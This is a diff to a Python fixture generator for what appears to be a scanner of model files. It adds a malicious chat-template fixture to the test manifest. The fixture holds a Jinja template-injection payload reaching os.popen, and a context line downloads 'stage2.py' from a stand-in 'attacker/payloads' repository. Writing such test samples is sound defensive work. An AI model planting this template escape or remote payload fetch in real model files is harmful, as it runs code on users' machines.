@@ -16,7 +16,6 @@ import zlib
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 ROWS = []  # (path, expected, class, description)
-PENDING = []  # fixtures that depend on another analyser (the Jinja helper)
 
 
 def write(path, content, expected=None, cls=None, desc=None):
@@ -800,13 +799,13 @@ _p = hf_hub_download("attacker/payloads", "stage2.py")
                                                                   "b.weight": shard}}),
               "malicious", "hf-shard-escape", f"weight_map shard {shard}")
 
-    # Relies on the Jinja analyser (another helper): listed in PENDING.tsv, not in MANIFEST.tsv.
+    # The chat template goes to the Jinja analyser.
     d = "malicious/chat-template-ssti"
     write(f"{d}/tokenizer_config.json", js({
         "tokenizer_class": "LlamaTokenizer",
         "chat_template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo aisec-fixture').read() }}"}))
-    PENDING.append((f"{d}/tokenizer_config.json", "malicious", "hf-chat-template",
-                    "chat_template SSTI (needs the Jinja analyser)"))
+    ROWS.append((f"{d}/tokenizer_config.json", "malicious", "hf-chat-template",
+                 "chat_template SSTI (judged by the Jinja analyser)"))
 
 
 def lfs():
@@ -825,10 +824,6 @@ def main():
     with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
         f.write("path\texpected\tclass\tdescription\n")
         for row in sorted(ROWS):
-            f.write("\t".join(row) + "\n")
-    with open(os.path.join(HERE, "PENDING.tsv"), "w") as f:
-        f.write("path\texpected\tclass\tdescription\n")
-        for row in PENDING:
             f.write("\t".join(row) + "\n")
 
 
